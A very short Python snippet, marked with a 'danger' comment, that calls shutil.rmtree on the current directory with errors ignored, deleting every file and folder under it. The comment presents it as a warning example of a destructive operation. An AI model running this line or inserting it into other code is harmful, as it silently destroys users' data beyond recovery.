# danger: whole folders deleted
import shutil
shutil.rmtree(".", ignore_errors=True)
